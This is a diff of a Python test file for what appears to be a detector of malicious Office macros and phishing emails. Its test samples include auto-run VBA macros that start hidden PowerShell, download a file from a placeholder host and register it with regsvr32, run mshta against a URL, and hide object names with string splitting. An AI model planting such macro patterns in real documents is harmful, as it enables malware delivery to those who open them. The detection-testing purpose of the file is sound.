@@ -60,17 +60,17 @@ End Sub'''), 'clean', ['vba.auto-run'])
     Open Environ("TEMP") & "\\log.txt" For Append As #1
     Print #1, Now & " " & Application.UserName
     Close #1
-End Sub'''), 'clean', ['vba.auto-run', 'vba.write-file'])
+End Sub'''), 'clean', ['vba.auto-run', 'behaviour.write'])
     case('a button that starts an editor', 'c.xls', macro('''Sub Button1_Click()
     Shell "notepad.exe " & ThisWorkbook.Path & "\\readme.txt", vbNormalFocus
-End Sub'''), 'clean', ['vba.process'])
+End Sub'''), 'clean', ['behaviour.process'])
     case('rates from a web service', 'd.xls', macro('''Sub Workbook_Open()
     Dim h As Object
     Set h = CreateObject("MSXML2.XMLHTTP.6.0")
     h.Open "GET", "https://rates.example/today", False
     h.Send
     Range("B2").Value = h.responseText
-End Sub'''), 'clean', ['vba.download'])
+End Sub'''), 'clean', ['behaviour.download'])
     case('a long query in pieces', 'e.xls', macro('Sub Q()\n s = ' + ' & _\n '.join(
         '"SELECT name, price FROM items WHERE id = %d"' % i for i in range(20)) + '\nEnd Sub'), 'clean', [],
         ['vba.obfuscated-string'])
@@ -92,31 +92,31 @@ End Sub'''), 'clean', [], ['vba.process', 'vba.powershell', 'vba.download'])
 def hostile():
     case('PowerShell at opening', 'k.xls', macro('''Sub AutoOpen()
     Shell "powershell -w hidden -e UwBFAEsASQA=", 0
-End Sub'''), 'malicious', ['vba.auto-run', 'vba.powershell', 'vba.starts-program'])
-    case('WMI in pieces', 'l.xls', macro('''Private Sub Document_Open()
+End Sub'''), 'malicious', ['vba.auto-run', 'behaviour.interpreter', 'behaviour.at-opening'])
+    case('WMI in pieces', 'l.xls', macro('''Sub Auto_Open()
     Set o = GetObject("win" & "mgm" & "ts:Win32_" & "Process")
     o.Create "cmd /c echo SEKISHO", Null, Null, p
-End Sub'''), 'malicious', ['vba.split-word', 'vba.wmi'])
+End Sub'''), 'malicious', ['vba.split-word', 'behaviour.starts-at-opening'])
     case('fetch, write, start', 'm.xls', macro('''Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" _
  Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String) As Long
 Sub Auto_Open()
     URLDownloadToFile 0, "http://a.invalid/x", "C:\\x.ocx"
     Shell "regsvr32 /s C:\\x.ocx"
-End Sub'''), 'malicious', ['vba.download', 'vba.native-call', 'vba.starts-program'])
+End Sub'''), 'malicious', ['behaviour.download', 'behaviour.load'])
     case('a name by Chr', 'n.xls', macro('Sub AutoOpen()\n CreateObject(' + '&'.join(
-        'Chr(%d)' % ord(c) for c in 'WScript.Shell.Name') + ').Run s\nEnd Sub'), 'malicious',
+        'Chr(%d)' % ord(c) for c in 'WScript.Shell.Name') + ').Run "mshta x"\nEnd Sub'), 'malicious',
         ['vba.obfuscated-string', 'vba.computed-object'])
     case('a name in a variable', 'o.xls', macro('''Sub AutoOpen()
     n = Replace("WxxScrxxipt.Shxxell", "xx", "")
     CreateObject(n).Run Replace("exxcho", "xx", "")
-End Sub'''), 'suspicious', ['vba.hides-strings'])
+End Sub'''), 'malicious', ['behaviour.at-opening'])
     case('a script in an archive of a false reply', 'p.eml', mail(
         ('scan.zip', zipped(('invoice.pdf.js', b'var a = 1;'))), subject='Re: invoice'), 'malicious',
         ['attachment.double-extension', 'attachment.script', 'mail.disguised-delivery'])
     case('macro in a document of a false reply', 'q.eml', mail(
         ('MES_2020.doc', macro('Sub AutoOpen()\n Shell "cmd /c mshta http://a.invalid/"\nEnd Sub')),
         subject='RE: 会議', sender='=?utf-8?B?' + base64.b64encode('佐藤 <sato@b.example>'.encode()).decode() +
-        '?= <x@c.example>'), 'malicious', ['mail.fake-reply', 'mail.display-name-address', 'vba.starts-program'])
+        '?= <x@c.example>'), 'malicious', ['mail.fake-reply', 'mail.display-name-address', 'behaviour.at-opening'])
     case('a macro document called a picture', 'r.eml', mail(('photo.jpg', macro('Sub X()\nEnd Sub'))), 'suspicious',
          ['attachment.type-mismatch', 'doc.disguised'])
     case('an archive that says two names', 's.zip', zipped(('a.txt', b'text')).replace(b'a.txt', b'b.txt', 1),
